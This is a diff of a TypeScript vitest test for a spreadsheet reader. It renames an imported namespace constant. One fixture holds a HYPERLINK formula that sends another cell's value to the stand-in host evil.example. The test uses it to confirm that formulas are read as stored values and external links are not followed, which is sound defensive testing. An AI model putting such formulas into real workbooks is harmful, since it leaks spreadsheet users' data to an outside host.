@@ -1,6 +1,6 @@
 import { monitorEventLoopDelay } from 'node:perf_hooks';
 import { afterAll, beforeAll, expect, test } from 'vitest';
-import { mainNamespace, createWorkbook } from '../../../tests/support/workbook.ts';
+import { spreadsheetNamespace, createWorkbook } from '../../../tests/support/workbook.ts';
 import { openSpreadsheets, type Spreadsheets } from './spreadsheets.ts';
 
 let spreadsheets: Spreadsheets;
@@ -47,7 +47,7 @@ test.each([
 
 test('a formula is read as its stored value, and a link to another file is not followed [7.3]', async () => {
   const parts = {
-    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${mainNamespace}"><externalBook/></externalLink>`,
+    'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${spreadsheetNamespace}"><externalBook/></externalLink>`,
   };
   const rows =
     '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/"&amp;B1,"klick")</f><v>klick</v></c>' +
